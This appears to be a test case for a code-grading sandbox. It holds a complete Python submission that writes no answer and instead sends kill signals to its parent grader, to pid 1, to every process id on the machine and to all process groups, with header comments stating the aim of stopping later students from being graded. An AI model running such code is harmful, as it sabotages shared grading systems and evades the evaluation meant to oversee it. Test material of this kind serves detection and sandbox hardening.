# No answer is written. Signals to everything the code can name: its parent (the executor or
# the grader), its process group, every pid of the machine (SIGTERM, then SIGKILL) and
# kill(-1, SIGKILL), so that the grading process dies and later students are never graded.
# expect: 0
# flag: controls the process | stops the kernel
# %% preamble
import os
import signal

me = os.getpid()
for sig in (signal.SIGTERM, signal.SIGKILL):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, sig)
        except OSError:
            pass
    for pid in range(2, 32768):
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
os.killpg(0, signal.SIGKILL)
